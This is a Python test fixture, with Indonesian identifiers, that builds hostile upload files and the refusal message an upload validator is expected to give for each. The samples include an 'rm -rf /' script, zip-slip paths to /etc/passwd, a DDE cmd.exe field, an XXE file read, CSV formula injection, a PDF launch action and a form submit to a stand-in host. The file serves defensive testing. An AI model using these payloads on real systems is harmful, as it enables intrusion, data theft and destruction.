"""Hostile files, made here: each with its name and the words it must be refused by."""

from __future__ import annotations

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

from lpse.berkas.periksa.dasar import EICAR
from tests.bantuan.berkas_baik import arsip, gambar, luar, odf, ooxml, pdf


@dataclass(frozen=True)
class Jahat:
    """One hostile file: what it is called, how it is made, and words of the refusal."""

    kode: str
    nama: str
    buat: Callable[[], bytes]
    kata: str


def _akar(kunci: str, nilai: Callable[[pikepdf.Pdf], object]) -> Callable[[], bytes]:
    """A PDF whose catalogue holds this."""

    def ubah(dok: pikepdf.Pdf) -> None:
        dok.Root[kunci] = nilai(dok)

    return lambda: pdf(ubah=ubah)


def _anotasi(isi: Callable[[], Dictionary]) -> Callable[[], bytes]:
    def ubah(dok: pikepdf.Pdf) -> None:
        dok.pages[0].obj.Annots = Array([isi()])

    return lambda: pdf(ubah=ubah)


def _lampiran(dok: pikepdf.Pdf) -> object:
    isi = Stream(dok, b"MZ", Type=Name.EmbeddedFile)
    return Dictionary(
        EmbeddedFiles=Dictionary(
            Names=Array([String("a.exe"), Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=isi))])
        )
    )


def _pdf_bersandi(pengguna: str) -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="pemilik", user=pengguna))


def _polyglot_pdf_zip() -> bytes:
    return pdf() + arsip({"a.txt": "x"})


def _pdf_bawa_zip() -> bytes:
    """A ZIP inside a stream, its directory reaching behind ``%%EOF`` as a comment."""

    def ubah(dok: pikepdf.Pdf) -> None:
        dok.Root.Catatan = Stream(dok, arsip({"a.class": b"\xca\xfe\xba\xbe" * 8}))

    return pdf(ubah=ubah, compress_streams=False)


def _html_di_ekor(jenis: str) -> Callable[[], bytes]:
    return lambda: gambar(jenis) + b"<html><script>alert(1)</script></html>"


def _html_di_komentar() -> bytes:
    isi = gambar()
    komentar = b"<script>alert(document.domain)</script>"
    return isi[:2] + b"\xff\xfe" + struct.pack("!H", len(komentar) + 2) + komentar + isi[2:]


def _png_teks_html() -> bytes:
    isi = gambar("PNG")
    data = b"Comment\x00<html><body onload=alert(1)>"
    potong = struct.pack("!I", len(data)) + b"tEXt" + data + struct.pack("!I", zlib.crc32(b"tEXt" + data))
    return isi[:33] + potong + isi[33:]


def _png_bom() -> bytes:
    """Twenty thousand times twenty thousand pixels in a few hundred bytes."""

    def potong(jenis: bytes, data: bytes) -> bytes:
        return struct.pack("!I", len(data)) + jenis + data + struct.pack("!I", zlib.crc32(jenis + data))

    kepala = struct.pack("!IIBBBBB", 20_000, 20_000, 1, 0, 0, 0, 0)
    isi = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + potong(b"IHDR", kepala) + potong(b"IDAT", isi) + potong(b"IEND", b"")


def _gifar() -> bytes:
    return gambar("GIF") + arsip({"META-INF/MANIFEST.MF": "Main-Class: X", "X.class": b"\xca\xfe\xba\xbe"})


def _bom_zip() -> bytes:
    return arsip(ooxml(tambah={"word/media/kosong.bin": b"\0" * (60 * 1024 * 1024)}))


def _bom_bohong() -> bytes:
    """The directory promises ten bytes; sixty megabytes come."""
    isi = bytearray(_bom_zip())
    letak = isi.rfind(b"PK\x01\x02", 0, isi.rfind(b"word/media/kosong.bin"))
    isi[letak + 24 : letak + 28] = struct.pack("<I", 10)
    return bytes(isi)


def _bom_tumpuk() -> bytes:
    """Entries that share the same bytes, so that a small file promises much."""
    isi = arsip(ooxml(tambah={"word/a.bin": b"a" * 4096, "word/b.bin": b"a" * 4096}))
    mentah = bytearray(isi)
    a, b = (mentah.rfind(b"PK\x01\x02", 0, mentah.rfind(n)) for n in (b"word/a.bin", b"word/b.bin"))
    mentah[b + 42 : b + 46] = mentah[a + 42 : a + 46]
    return bytes(mentah)


def _banyak_entri() -> bytes:
    return arsip({**ooxml(), **{f"word/media/{i}.txt": "" for i in range(5_200)}}, mampat=zipfile.ZIP_STORED)


def _nama_entri(nama: str) -> Callable[[], bytes]:
    return lambda: arsip(ooxml(tambah={nama: "x"}))


def _nama_kembar() -> bytes:
    """Two programs may each believe another one of the two."""
    isi = arsip(ooxml(tambah={"word/a.xml": "<a/>", "word/b.xml": "<b/>"}))
    return isi.replace(b"word/b.xml", b"word/a.xml")


def _symlink() -> bytes:
    keluar = io.BytesIO()
    with zipfile.ZipFile(keluar, "w") as z:
        for nama, data in ooxml().items():
            z.writestr(nama, data)
        tautan = zipfile.ZipInfo("word/media/a.png")
        tautan.external_attr = (stat.S_IFLNK | 0o777) << 16
        z.writestr(tautan, "/etc/passwd")
    return keluar.getvalue()


def _entri_bersandi() -> bytes:
    isi = bytearray(arsip(ooxml()))
    letak = 0
    while (letak := isi.find(b"PK\x01\x02", letak)) != -1:
        isi[letak + 8] |= 1
        letak += 4
    return bytes(isi)


def _makro() -> bytes:
    dasar = ooxml(tambah={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0makro"})
    tipe = str(dasar["[Content_Types].xml"])
    dasar["[Content_Types].xml"] = tipe.replace(
        "vnd.openxmlformats-officedocument.wordprocessingml.document.main", "vnd.ms-word.document.macroEnabled.main"
    )
    return arsip(dasar)


def _js(_dok: pikepdf.Pdf) -> object:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


JAHAT: tuple[Jahat, ...] = (
    Jahat("eicar", "catatan.txt", lambda: EICAR, "virus uji EICAR"),
    Jahat("eicar-di-pdf", "surat.pdf", lambda: pdf() + EICAR, "virus uji EICAR"),
    Jahat("eicar-di-docx", "surat.docx", lambda: arsip(ooxml(tambah={"word/media/a.bin": EICAR})), "virus uji EICAR"),
    Jahat("exe", "setup.exe", lambda: b"MZ\x90\0" + b"\0" * 64, "program Windows"),
    Jahat("exe-bernama-pdf", "surat.pdf", lambda: b"MZ\x90\0" + b"\0" * 64, "program Windows"),
    Jahat("elf", "alat.txt", lambda: b"\x7fELF\2\1\1" + b"\0" * 64, "program Linux"),
    Jahat("skrip", "jalan.txt", lambda: b"#!/bin/sh\nrm -rf /\n", "skrip"),
    Jahat("html", "halaman.txt", lambda: b"<!DOCTYPE html><html><body>halo</body></html>", "HTML"),
    Jahat("html-bernama-pdf", "surat.pdf", lambda: b"\n <html><script>alert(1)</script></html>", "HTML"),
    Jahat("html-di-csv", "data.csv", lambda: b"a;b\nx;" + b"y" * 4000 + b"<script>alert(1)</script>\n", "HTML"),
    Jahat("svg", "gambar.svg", lambda: b'<?xml version="1.0"?><svg xmlns="x"><script/></svg>', "SVG"),
    Jahat("svg-bernama-png", "gambar.png", lambda: b"<svg xmlns='x' onload='alert(1)'/>", "SVG"),
    Jahat("xml", "data.txt", lambda: b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "XML"),
    Jahat("pdf-javascript", "surat.pdf", _akar("/OpenAction", _js), "JavaScript"),
    Jahat(
        "pdf-javascript-tersembunyi", "surat.pdf",
        _anotasi(lambda: Dictionary(Type=Name.Annot, Subtype=Name.Widget, AA=Dictionary(O=_js(None)))),  # type: ignore[arg-type] # needs no document
        "JavaScript",
    ),
    Jahat(
        "pdf-launch", "surat.pdf",
        _akar("/OpenAction", lambda _: Dictionary(S=Name.Launch, F=String("cmd.exe"))), "menjalankan program",
    ),
    Jahat("pdf-lampiran", "surat.pdf", _akar("/Names", _lampiran), "dilampirkan"),
    Jahat(
        "pdf-kirim-formulir", "surat.pdf",
        _anotasi(lambda: Dictionary(Type=Name.Annot, A=Dictionary(S=Name.SubmitForm, F=String("https://x.example")))),
        "mengirim isinya ke luar",
    ),
    Jahat("pdf-xfa", "surat.pdf", _akar("/AcroForm", lambda _: Dictionary(XFA=Array([]), Fields=Array([]))), "XFA"),
    Jahat(
        "pdf-tautan-javascript", "surat.pdf",
        _anotasi(lambda: Dictionary(Type=Name.Annot, A=Dictionary(S=Name.URI, URI=String("javascript:alert(1)")))),
        "tautan yang menjalankan",
    ),
    Jahat("pdf-media", "surat.pdf", _anotasi(lambda: Dictionary(Type=Name.Annot, Subtype=Name.Screen)), "media"),
    Jahat("pdf-bersandi", "surat.pdf", lambda: _pdf_bersandi("rahasia"), "dikunci sandi"),
    Jahat("pdf-bersandi-pemilik", "surat.pdf", lambda: _pdf_bersandi(""), "dikunci sandi"),
    Jahat("pdf-terpotong", "surat.pdf", lambda: pdf()[:-30], "terpotong"),
    Jahat("pdf-rusak", "surat.pdf", lambda: b"%PDF-1.7\n" + b"x" * 400 + b"\n%%EOF\n", "rusak"),
    Jahat("pdf-terlalu-tebal", "surat.pdf", lambda: pdf(61), "paling banyak 60 halaman"),
    Jahat("pdf+zip", "surat.pdf", _polyglot_pdf_zip, "ditempelkan di belakang"),
    Jahat("pdf-bawa-zip", "surat.pdf", _pdf_bawa_zip, "arsip ZIP"),
    Jahat("pdf+html", "surat.pdf", lambda: pdf() + b"<script>alert(1)</script>", "ditempelkan di belakang"),
    Jahat("gifar", "gerak.gif", _gifar, "arsip ZIP"),
    Jahat("jpeg+zip", "foto.jpg", lambda: gambar() + arsip({"a": "b"}), "arsip ZIP"),
    Jahat("jpeg+html", "foto.jpg", _html_di_ekor("JPEG"), "disembunyikan di dalam gambar"),
    Jahat("png+html", "foto.png", _html_di_ekor("PNG"), "disembunyikan di dalam gambar"),
    Jahat("webp+html", "foto.webp", _html_di_ekor("WEBP"), "disembunyikan di dalam gambar"),
    Jahat("jpeg-komentar-html", "foto.jpg", _html_di_komentar, "disembunyikan di dalam gambar"),
    Jahat("png-teks-html", "foto.png", _png_teks_html, "disembunyikan di dalam gambar"),
    Jahat("jpeg+pdf", "foto.jpg", lambda: gambar() + pdf(), "disembunyikan di dalam gambar"),
    Jahat("png-bom", "foto.png", _png_bom, "juta piksel"),
    Jahat("jpeg-terpotong", "foto.jpg", lambda: gambar(sisi=(640, 480))[:-200], "rusak"),
    Jahat("png-terpotong", "foto.png", lambda: gambar("PNG")[:-20], "rusak"),
    Jahat("png-bernama-jpg", "foto.jpg", lambda: gambar("PNG"), "berakhiran .jpg, tetapi isinya gambar PNG"),
    Jahat("pdf-bernama-docx", "surat.docx", pdf, "berakhiran .docx, tetapi isinya PDF"),
    Jahat("akhiran-ganda", "surat.pdf.exe", pdf, "berakhiran .exe"),
    Jahat("kanan-ke-kiri", "surat\u202efdp.exe", pdf, "berakhiran .exe"),
    Jahat("heic", "foto.heic", lambda: b"\0\0\0\x18ftypheic" + b"\0" * 64, "HEIC"),
    Jahat("doc-lama", "surat.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "Office lama"),
    Jahat("zip-biasa", "kumpulan.zip", lambda: arsip({"a.txt": "x"}), "Arsip ZIP tidak diterima"),
    Jahat("zip-bernama-docx", "surat.docx", lambda: arsip({"a.txt": "x"}), "Arsip ZIP tidak diterima"),
    Jahat("rar", "kumpulan.rar", lambda: b"Rar!\x1a\x07\0" + b"\0" * 64, "RAR"),
    Jahat("bom-zip", "surat.docx", _bom_zip, "bom ZIP"),
    Jahat("bom-zip-bohong", "surat.docx", _bom_bohong, "rusak"),
    Jahat("bom-zip-tumpuk", "surat.docx", _bom_tumpuk, "bom ZIP"),
    Jahat("zip-banyak-entri", "surat.docx", _banyak_entri, "Kemungkinan bom ZIP"),
    Jahat(
        "zip-bersarang", "surat.docx",
        lambda: arsip(ooxml(tambah={"word/media/a.bin": arsip({"b": "c"})})),
        "arsip lain",
    ),
    Jahat("zip-slip", "surat.docx", _nama_entri("../../etc/cron.d/x"), "zip slip"),
    Jahat("zip-slip-mutlak", "surat.docx", _nama_entri("/etc/passwd"), "zip slip"),
    Jahat("zip-slip-windows", "surat.docx", _nama_entri("..\\..\\boot.ini"), "zip slip"),
    Jahat("zip-nama-kembar", "surat.docx", _nama_kembar, "nama yang sama dua kali"),
    Jahat("zip-symlink", "surat.docx", _symlink, "zip slip"),
    Jahat("zip-bersandi", "surat.docx", _entri_bersandi, "dikunci sandi"),
    Jahat("zip+ekor", "surat.docx", lambda: b"PK\x03\x04%PDF-1.7" + arsip(ooxml()), "PDF yang disembunyikan"),
    Jahat("office-makro", "surat.docx", _makro, "makro"),
    Jahat(
        "office-makro-xlsx", "rekap.xlsx",
        lambda: arsip(ooxml("xlsx", {"xl/macrosheets/sheet1.xml": "<x/>"})), "makro",
    ),
    Jahat("office-templat-luar", "surat.docx", lambda: arsip(ooxml(hubungan=luar("attachedTemplate"))), "dari luar"),
    Jahat("office-gambar-luar", "surat.docx", lambda: arsip(ooxml(hubungan=luar("image"))), "dari luar"),
    Jahat(
        "office-ole", "surat.docx",
        lambda: arsip(ooxml(tambah={"word/embeddings/oleObject1.bin": b"\xd0\xcf"})),
        "OLE",
    ),
    Jahat(
        "office-ole-hubungan", "surat.docx",
        lambda: arsip(ooxml(hubungan=luar("oleObject").replace(' TargetMode="External"', ""))),
        "OLE",
    ),
    Jahat(
        "office-tautan-program", "surat.docx",
        lambda: arsip(ooxml(hubungan=luar("hyperlink", "javascript:alert(1)"))),
        "menjalankan program",
    ),
    Jahat(
        "office-dde", "surat.docx",
        lambda: arsip(ooxml(tambah={"word/a.xml": "<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>"})),
        "DDE",
    ),
    Jahat(
        "office-xxe", "surat.docx",
        lambda: arsip(ooxml(tambah={"word/a.xml": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x/>'})),
        "DOCTYPE",
    ),
    Jahat("odf-makro", "surat.odt", lambda: odf(tambah={"Basic/Standard/Module1.xml": "<x/>"}), "makro"),
    Jahat(
        "odf-skrip", "surat.odt",
        lambda: odf(isi='<script:event-listener xlink:href="vnd.sun.star.script:a"/>'),
        "makro",
    ),
    Jahat(
        "odf-bersandi", "surat.odt",
        lambda: odf(tambah={"META-INF/manifest.xml": "<encryption-data/>"}),
        "dikunci sandi",
    ),
    Jahat("odf-luar", "surat.odt", lambda: odf(isi='<draw:object xlink:href="https://x.example/a"/>'), "dari luar"),
    Jahat("csv-rumus", "data.csv", lambda: b"nama,nilai\nCV Maju,=cmd|'/C calc'!A0\n", "Baris 2 CSV ini memuat rumus"),
    Jahat("csv-rumus-at", "data.csv", lambda: b"@SUM(1+1)*cmd,2\n", "Baris 1 CSV ini memuat rumus"),
    Jahat("csv-rusak", "data.csv", lambda: b'a,"b"c\n', "Susunan CSV"),
    Jahat("teks-nul", "catatan.txt", lambda: b"halo\0dunia", "bukan jenis yang dikenal"),
    Jahat("teks-kendali", "catatan.txt", lambda: b"halo" * 600 + b"\x07\x08", "bukan teks"),
    Jahat("teks-latin1", "catatan.txt", lambda: b"r\xe9sum\xe9", "UTF-8"),
    Jahat("kosong", "kosong.pdf", lambda: b"", "kosong"),
)  # fmt: skip

#: Names as they may come, and what is left of them; the content is always an honest PDF.
NAMA: tuple[tuple[str, str], ...] = (
    ("surat\r\nContent-Type: text\r\n.pdf", "surat Content-Type_ text.pdf"),
    ("../../etc/passwd.pdf", "passwd.pdf"),
    ("C:\\Users\\rina\\surat.pdf", "surat.pdf"),
    ('su"rat; filename="a.exe.pdf', "su_rat; filename=_a.exe.pdf"),
    ("surat\u202egpj.pdf", "suratgpj.pdf"),
    ("su\x00rat.pdf", "surat.pdf"),
    ("\u200bsurat\ufeff.pdf", "surat.pdf"),
    ("CON.pdf", "_CON.pdf"),
    ("lpt1.keterangan.pdf", "_lpt1.keterangan.pdf"),
    (".pdf", "berkas.pdf"),
    ("   . . .pdf", "berkas.pdf"),
    ("a" * 400 + ".pdf", "a" * 146 + ".pdf"),
    ("surat tugas № 7 – Ujung Pandang.pdf", "surat tugas № 7 – Ujung Pandang.pdf"),
)
